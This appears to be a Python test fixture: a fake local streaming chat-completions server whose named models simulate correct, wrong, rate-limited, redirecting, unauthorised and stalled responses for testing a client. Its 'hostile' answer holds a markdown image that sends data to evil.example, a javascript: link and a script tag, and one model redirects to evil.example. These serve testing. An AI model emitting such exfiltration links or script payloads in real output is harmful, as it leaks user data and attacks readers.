"""An endpoint whose models each do what their name says."""
import http.server
import json
import ssl
import sys
import time

ANSWERS = {
    "good": "# 2024년\n\n헬스는 42번 했어요. 책은 3권 읽었어요.",
    "wrong": "헬스는 43번 했어요. 책은 3권 읽었어요.",
    "stubborn": "헬스는 43번 했어요. 책은 3권 읽었어요.",
    "hostile": "<think>비밀</think>![x](https://evil.example/?gym=42)\n\n헬스는 [42번](javascript:alert(1)) 했어요.<script>alert(1)</script>\n\n"
    "[^1]: https://evil.example",
}
REPAIRS = {"wrong": "1: 헬스는 42번 했어요.", "stubborn": "1: 헬스는 44번 했어요."}


class Endpoint(http.server.BaseHTTPRequestHandler):
    busy = True

    def log_message(self, *_):
        pass

    def event(self, data):
        self.wfile.write(b"data: " + (data if isinstance(data, bytes) else json.dumps(data, ensure_ascii=False).encode()) + b"\n\n")

    def say(self, text):
        for at in range(0, len(text), 7):
            self.event({"choices": [{"index": 0, "delta": {"content": text[at : at + 7]}}]})

    def do_POST(self):
        request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        model = request["model"]
        again = '"wrong"' in request["messages"][1]["content"]
        if model == "busy" and Endpoint.busy:
            Endpoint.busy = False
            self.send_response(429)
            self.send_header("Retry-After", "0")
            self.end_headers()
            return
        if model == "elsewhere":
            self.send_response(307)
            self.send_header("Location", "https://evil.example/v1/chat/completions")
            self.end_headers()
            return
        if model == "keyless":
            self.send_response(401)
            self.end_headers()
            self.wfile.write(json.dumps({"error": {"message": f"no such key: {self.headers['Authorization']}"}}).encode())
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        if model == "slow":
            self.say("헬스는 42번 했어요. 그리고")
            self.wfile.flush()
            open("began", "w").close()
            time.sleep(20)
            return
        self.say(REPAIRS.get(model, "") if again else ANSWERS.get(model, ANSWERS["good"]))
        self.event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        self.event({"choices": [], "usage": {"prompt_tokens": 5000, "completion_tokens": 40}})
        self.event(b"[DONE]")


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Endpoint)
if len(sys.argv) > 1:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[1])
    server.socket = context.wrap_socket(server.socket, server_side=True)
with open("tls" if len(sys.argv) > 1 else "port", "w") as file:
    file.write(str(server.server_address[1]))
server.serve_forever()
